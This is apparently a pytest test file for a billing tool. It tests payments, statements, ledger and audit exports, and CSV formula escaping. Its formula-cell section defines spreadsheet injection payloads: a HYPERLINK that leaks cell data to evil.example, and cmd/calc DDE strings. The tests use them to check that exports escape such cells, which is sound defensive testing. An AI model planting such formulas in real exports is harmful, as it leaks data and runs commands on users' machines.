"""Payments and credits (validation in the store and on the command line),
the customer statement (running and opening balance), `export ledger` with
its filters, formula cells escaped in CSV, and the audit log (a row per
changed field, who made it, money as decimals) with `export audit`.
"""

from __future__ import annotations

import csv
import getpass
import io
import json
from datetime import date
from decimal import Decimal

import pytest

from billing.accounts import AllocationDraft, CustomerDraft
from billing.money import MoneyError
from store.allocations import update_allocation
from store.audit import AUDIT_FIELDS, list_audit
from store.customers import get_customer, update_customer
from store.ledger import (
    LEDGER_FIELDS,
    check_balances,
    ledger_balance,
    list_payments,
    record_payment,
    reverse_payment,
    statement,
)
from store.packages import StoreError, update_package
from store.usage import add_usage, update_usage

from .conftest import (
    TODAY,
    allocate,
    balance_of,
    cli,
    cli_env,
    cli_process,
    count,
    customer,
    opened,
    package,
    query,
    run_json,
)

D = Decimal
MAR = lambda day: date(2025, 3, day)  # noqa: E731


def csv_rows(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text)))


# --- payments and credits -------------------------------------------------------------------------


def test_record_payment_and_credit_move_the_balance(db):
    with opened(db) as book:
        book.update_settings(precision=6)  # a book that keeps micro-units: amounts stay exact to the last place
        who = customer("Acme Telecom")
        paid = record_payment(who.id, MAR(1), D("100.25"), "payment", " March ", " INV-7 ")
        credit = record_payment(who.id, MAR(2), D("0.000001"), "credit")
        assert (paid.kind, paid.amount, paid.description, paid.reference) == ("payment", D("100.25"), "March", "INV-7")
        assert paid.created_by == getpass.getuser()
        assert (credit.kind, credit.amount) == ("credit", D("0.000001"))
        assert get_customer(who.id).balance == D("100.250001") == ledger_balance(who.id)
        assert [p.id for p in list_payments(who.id)] == [paid.id, credit.id]
        assert check_balances() == []


@pytest.mark.parametrize(
    "amount, kind, error",
    [
        (D("0"), "payment", StoreError),
        (D("-5"), "payment", StoreError),
        (D("-0.01"), "credit", StoreError),
        (D("5"), "refund", StoreError),
        (D("5"), "reversal", StoreError),
        (D("1.1234567"), "payment", (StoreError, MoneyError)),
        (1.5, "payment", (StoreError, TypeError)),
    ],
)
def test_record_payment_refuses_bad_input_and_writes_nothing(db, amount, kind, error):
    with opened(db):
        who = customer("Acme Telecom")
        with pytest.raises(error):
            record_payment(who.id, MAR(1), amount, kind)
        assert get_customer(who.id).balance == 0
    assert count(db, "payment") == 0
    assert query(db, "SELECT COUNT(*) FROM audit WHERE entity = 'payment'") == [(0,)]


def test_record_payment_for_a_missing_customer_is_refused(db):
    with opened(db):
        with pytest.raises(StoreError, match="no longer exists"):
            record_payment(999, MAR(1), D("5"))
    assert count(db, "payment") == 0


@pytest.mark.parametrize(
    "amount, says",
    [
        ("-5", "negative"),
        ("abc", "not a number"),
        ("1.1234567", "7 decimal places"),
        ("0", "more than 0"),
        ("0.000", "more than 0"),
        ("", "required"),
        ("1e3", "not a number"),
    ],
)
def test_pay_with_a_bad_amount_exits_2_and_writes_nothing(db, capsys, amount, says):
    with opened(db):
        customer("Acme Telecom")
    code, out, err = cli(capsys, "pay", "--db", str(db), "--customer", "Acme Telecom", f"--amount={amount}")
    assert code == 2
    assert "--amount" in err and says in err
    assert "Traceback" not in err and out == ""
    assert count(db, "payment") == 0
    with opened(db):
        assert balance_of("Acme Telecom") == 0


def test_pay_for_an_unknown_customer_exits_1(db, capsys):
    with opened(db):
        customer("Acme Telecom")
    code, out, err = cli(capsys, "pay", "--db", str(db), "--customer", "Nobody Ltd", "--amount", "5")
    assert code == 1
    assert "'Nobody Ltd' is not a customer" in err and out == ""
    assert count(db, "payment") == 0


def test_pay_records_a_credit_with_its_date_and_prints_the_balance(db, capsys):
    with opened(db):
        customer("Acme Telecom")
    code, out, err = cli(
        capsys, "pay", "--db", str(db), "--customer", "Acme Telecom", "--amount", "12.5",
        "--kind", "credit", "--date", "2025-03-07", "--description", "goodwill",
    )
    assert code == 0, err
    assert "Recorded credit" in out and "12.50 on 2025-03-07" in out and "Balance 12.50 USD" in out
    assert query(db, "SELECT date, amount, kind, description FROM payment") == [("2025-03-07", 12_500_000, "credit", "goodwill")]


# --- statement ------------------------------------------------------------------------------------------


def test_statement_running_balance_and_opening_balance(db, capsys):
    with opened(db):
        who = customer("Acme Telecom")
        allocate(who, package("Daily number", "1.25"), MAR(1), auto=True)
        paid = record_payment(who.id, MAR(2), D("50"))
        record_payment(who.id, MAR(5), D("10"), "credit")
        reverse_payment(paid.id, MAR(6))
        customer_id = who.id
    run_json(capsys, db, MAR(6), commit=True)

    with opened(db):
        opening, lines = statement(customer_id)
        assert opening == 0
        assert [(l.date.day, l.what, l.debit, l.credit, l.balance) for l in lines] == [
            (1, "charge", D("1.25"), D(0), D("-1.25")),
            (2, "payment", D(0), D("50"), D("48.75")),
            (2, "charge", D("1.25"), D(0), D("47.50")),
            (3, "charge", D("1.25"), D(0), D("46.25")),
            (4, "charge", D("1.25"), D(0), D("45.00")),
            (5, "credit", D(0), D("10"), D("55.00")),
            (5, "charge", D("1.25"), D(0), D("53.75")),
            (6, "reversal", D("50"), D(0), D("3.75")),
            (6, "charge", D("1.25"), D(0), D("2.50")),
        ]
        assert lines[-1].balance == balance_of("Acme Telecom") == ledger_balance(customer_id)

        opening, lines = statement(customer_id, MAR(4), MAR(5))
        assert opening == D("46.25")
        assert [(l.date.day, l.what, l.balance) for l in lines] == [
            (4, "charge", D("45.00")),
            (5, "credit", D("55.00")),
            (5, "charge", D("53.75")),
        ]
        # From a date after every line: the opening is the final balance, no lines.
        assert statement(customer_id, date(2025, 4, 1)) == (D("2.50"), [])


# --- export ledger ---------------------------------------------------------------------------------------


def ledger_book(db, capsys) -> None:
    with opened(db):
        acme, blue = customer("Acme Telecom"), customer("Blue Fish Ltd")
        daily = package("Daily number", "1.25", "0.5")
        allocate(acme, daily, MAR(1), auto=True)
        allocate(blue, daily, MAR(1), quantity=2)
    run_json(capsys, db, MAR(4), commit=True)


def test_export_ledger_json_with_filters(db, capsys):
    ledger_book(db, capsys)
    code, out, err = cli(capsys, "export", "ledger", "--db", str(db), "--format", "json")
    assert code == 0, err
    everything = json.loads(out)
    assert len(everything) == 8
    assert [r["date"] for r in everything] == sorted(r["date"] for r in everything)

    code, out, err = cli(
        capsys, "export", "ledger", "--db", str(db), "--format", "json",
        "--customer", "Acme Telecom", "--from", "2025-03-02", "--to", "2025-03-03",
    )
    assert code == 0, err
    rows = json.loads(out)
    assert [(r["date"], r["customer"]) for r in rows] == [("2025-03-02", "Acme Telecom"), ("2025-03-03", "Acme Telecom")]
    first = rows[0]
    assert set(first) == set(LEDGER_FIELDS)
    assert (first["package"], first["kind"], first["quantity"], first["amount"], first["cost"]) == (
        "Daily number", "recurring", "1", "1.25", "0.50",
    )
    assert (first["retail_price"], first["cost_price"], first["auto_decrement"]) == ("1.25", "0.50", "yes")
    assert first["posted_by"] == getpass.getuser() and first["run"] == "1" and first["posted_at"]

    code, out, _ = cli(capsys, "export", "ledger", "--db", str(db), "--format", "json", "--customer", "Blue Fish Ltd", "--from", "2025-03-04")
    assert code == 0
    assert [(r["date"], r["quantity"], r["amount"], r["auto_decrement"]) for r in json.loads(out)] == [("2025-03-04", "2", "2.50", "no")]


def test_export_ledger_csv_with_filters(db, capsys):
    ledger_book(db, capsys)
    code, out, err = cli(capsys, "export", "ledger", "--db", str(db), "--to", "2025-03-02")
    assert code == 0, err
    assert out.splitlines()[0] == ",".join(LEDGER_FIELDS)
    rows = csv_rows(out)
    assert sorted((r["date"], r["customer"], r["amount"]) for r in rows) == [
        ("2025-03-01", "Acme Telecom", "1.25"),
        ("2025-03-01", "Blue Fish Ltd", "2.50"),
        ("2025-03-02", "Acme Telecom", "1.25"),
        ("2025-03-02", "Blue Fish Ltd", "2.50"),
    ]
    code, out, _ = cli(capsys, "export", "ledger", "--db", str(db), "--customer", "Blue Fish Ltd", "--from", "2025-03-03")
    assert code == 0
    assert [(r["date"], r["customer"]) for r in csv_rows(out)] == [("2025-03-03", "Blue Fish Ltd"), ("2025-03-04", "Blue Fish Ltd")]

    code, out, err = cli(capsys, "export", "ledger", "--db", str(db), "--customer", "Nobody Ltd")
    assert code == 1 and "'Nobody Ltd' is not a customer" in err and out == ""


def test_export_ledger_refuses_a_to_date_before_the_from_date(db, capsys):
    """As `export usage` and `charges` do: an empty range is a typo, not a report."""
    ledger_book(db, capsys)
    code, out, err = cli(capsys, "export", "ledger", "--db", str(db), "--from", "2025-03-04", "--to", "2025-03-01")
    assert code == 2
    assert "--to 2025-03-01 is before --from 2025-03-04" in err
    assert out == ""


# --- formula cells --------------------------------------------------------------------------------------------

EVIL_CUSTOMER = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
EVIL_PACKAGE = "+cmd|' /C calc'!A0"
AT_CUSTOMER = "@SUM(1+1)*cmd|' /C calc'!A0"
DASH_PACKAGE = "-2+3+cmd|' /C calc'!A0"


def formula_book(db, capsys) -> None:
    with opened(db):
        evil, at = customer(EVIL_CUSTOMER), customer(AT_CUSTOMER)
        plus, dash = package(EVIL_PACKAGE, "1.25"), package(DASH_PACKAGE, "2")
        allocate(evil, plus, MAR(1))
        allocate(at, dash, MAR(1))


def assert_escaped(text: str) -> None:
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert "'" + EVIL_CUSTOMER in cells and "'" + EVIL_PACKAGE in cells
    assert "'" + AT_CUSTOMER in cells and "'" + DASH_PACKAGE in cells
    for cell in cells:
        assert not cell.startswith(("=", "+", "-", "@")), cell


def test_formula_cells_are_escaped_in_ledger_and_charges_csv(db, capsys):
    formula_book(db, capsys)
    base = ("--db", str(db), "--today", TODAY.isoformat())
    code, simulated, _ = cli(capsys, "run", *base, "--date", "2025-03-02", "--format", "csv")
    assert code == 0
    assert_escaped(simulated)
    code, charges, _ = cli(capsys, "charges", *base, "--from", "2025-03-01", "--to", "2025-03-02", "--format", "csv")
    assert code == 0
    assert_escaped(charges)
    code, posted, _ = cli(capsys, "run", *base, "--date", "2025-03-02", "--format", "csv", "--commit")
    assert code == 0
    assert_escaped(posted)
    code, ledger, _ = cli(capsys, "export", "ledger", *base)
    assert code == 0
    assert_escaped(ledger)
    assert len(csv_rows(ledger)) == 4
    code, audit, _ = cli(capsys, "export", "audit", *base)
    assert code == 0
    assert_escaped(audit)

    # JSON is not a spreadsheet: the names come out exactly as they are.
    code, out, _ = cli(capsys, "export", "ledger", *base, "--format", "json")
    assert {(r["customer"], r["package"]) for r in json.loads(out)} == {(EVIL_CUSTOMER, EVIL_PACKAGE), (AT_CUSTOMER, DASH_PACKAGE)}
    # And --customer finds the customer by its real name.
    code, out, _ = cli(capsys, "export", "ledger", *base, "--format", "json", "--customer", EVIL_CUSTOMER)
    assert code == 0 and len(json.loads(out)) == 2


# --- the audit log ------------------------------------------------------------------------------------------------


def updates(entity: str, entity_id: int) -> dict[str, tuple]:
    """field -> (by, old, new) of the update rows of one entity, via list_audit."""
    rows = [r for r in list_audit(limit=10_000) if r.entity == entity and r.entity_id == entity_id and r.action == "update"]
    found = {r.field: (r.by, r.old, r.new) for r in rows}
    assert len(found) == len(rows), "a field was logged twice for one change"
    return found


def test_a_package_edit_logs_each_changed_field_with_who_and_decimals(db):
    with opened(db):
        daily = package("Daily number", "10", "4", description="old text")
        changed = update_package(
            daily.id, daily.version, daily.draft().with_(retail=D("12.5"), setup_cost=D("0.000001"), description="new text")
        )
        me = getpass.getuser()
        assert updates("package", daily.id) == {
            "retail": (me, "10.00", "12.50"),
            "setup_cost": (me, "0.00", "0.000001"),
            "description": (me, "old text", "new text"),
        }
        inserted = {r.field: r.new for r in list_audit("Daily number") + list_audit(limit=10_000) if r.action == "insert" and r.entity == "package"}
        assert inserted["name"] == "Daily number" and inserted["retail"] == "10.00" and inserted["cost"] == "4.00"
        # Saving again unchanged logs nothing new.
        before = len(list_audit(limit=10_000))
        update_package(changed.id, changed.version, changed.draft())
        assert len(list_audit(limit=10_000)) == before


def test_customer_allocation_usage_and_payment_changes_are_logged(db):
    with opened(db):
        me = getpass.getuser()
        who = customer("Acme Telecom")
        update_customer(who.id, who.version, CustomerDraft("Acme Telecom", "suspended", D("20"), "late payer"))
        assert updates("customer", who.id) == {
            "status": (me, "active", "suspended"),
            "tax_percent": (me, "0.00", "20.00"),
            "notes": (me, "", "late payer"),
        }

        daily = package("Daily number", "1.25")
        allocation = allocate(who, daily, MAR(1))
        update_allocation(allocation.id, allocation.version, daily.id, AllocationDraft(3, MAR(1), MAR(31), True, False, "PO-9"))
        assert updates("allocation", allocation.id) == {
            "quantity": (me, "1", "3"),
            "end_date": (me, None, "2025-03-31"),
            "auto_decrement": (me, "0", "1"),
            "reference": (me, "", "PO-9"),
        }

        usage = add_usage(who.id, MAR(3), D("7.5"), "calls")
        update_usage(usage.id, usage.version, MAR(4), D("8.25"), "calls")
        added = {r.field: r.new for r in list_audit(limit=10_000) if r.entity == "usage" and r.action == "insert"}
        assert added["amount"] == "7.50" and added["date"] == "2025-03-03" and added["source"] == "calls"
        assert updates("usage", usage.id) == {"date": (me, "2025-03-03", "2025-03-04"), "amount": (me, "7.50", "8.25")}

        paid = record_payment(who.id, MAR(5), D("100"), reference="INV-1")
        reversal = reverse_payment(paid.id, MAR(6))
        payment_rows = {(r.entity_id, r.field): r.new for r in list_audit("payment", limit=10_000) if r.entity == "payment"}
        assert payment_rows[(paid.id, "amount")] == "100.00"
        assert payment_rows[(paid.id, "kind")] == "payment"
        assert payment_rows[(reversal.id, "kind")] == "reversal"
        assert payment_rows[(reversal.id, "reverses_id")] == str(paid.id)
        # The original payment was never updated by its reversal.
        assert updates("payment", paid.id) == {}
        assert all(r.by == me for r in list_audit(limit=10_000))


def test_export_audit_lists_every_change(db, capsys):
    with opened(db):
        daily = package("Daily number", "10")
        update_package(daily.id, daily.version, daily.draft().with_(retail=D("12.5")))
        who = customer("Acme Telecom")
        record_payment(who.id, MAR(5), D("100"))
    total = count(db, "audit")
    assert total > 10

    code, out, err = cli(capsys, "export", "audit", "--db", str(db))
    assert code == 0, err
    assert out.splitlines()[0] == ",".join(AUDIT_FIELDS)
    rows = csv_rows(out)
    assert len(rows) == total
    me = getpass.getuser()
    assert {"by": me, "entity": "package", "action": "update", "field": "retail", "old": "10.00", "new": "12.50"}.items() <= next(
        r for r in rows if r["entity"] == "package" and r["action"] == "update"
    ).items()
    assert any(r["entity"] == "payment" and r["field"] == "amount" and r["new"] == "100.00" for r in rows)
    assert any(r["entity"] == "customer" and r["field"] == "name" and r["new"] == "Acme Telecom" for r in rows)

    code, out, _ = cli(capsys, "export", "audit", "--db", str(db), "--format", "json")
    assert code == 0
    assert [(r["entity"], r["field"], r["new"]) for r in json.loads(out)] == [(r["entity"], r["field"], r["new"]) for r in rows]


def test_the_audit_names_the_real_user_of_the_process_not_what_the_environment_says(db):
    import os
    import pwd

    me = pwd.getpwuid(os.getuid()).pw_name
    assert me != "alice"
    with opened(db):
        customer("Acme Telecom")
    env = cli_env(LOGNAME="alice", USER="alice", LNAME="alice", USERNAME="alice")
    done = cli_process("pay", "--db", str(db), "--customer", "Acme Telecom", "--amount", "5", env=env)
    assert done.returncode == 0, done.stderr
    assert query(db, "SELECT DISTINCT by FROM audit WHERE entity = 'payment'") == [(me,)]
    assert query(db, "SELECT created_by FROM payment") == [(me,)]
    done = cli_process("export", "audit", "--db", str(db), "--format", "json", env=env)
    assert any(r["by"] == me and r["entity"] == "payment" for r in json.loads(done.stdout))
    assert not any(r["by"] == "alice" for r in json.loads(done.stdout))
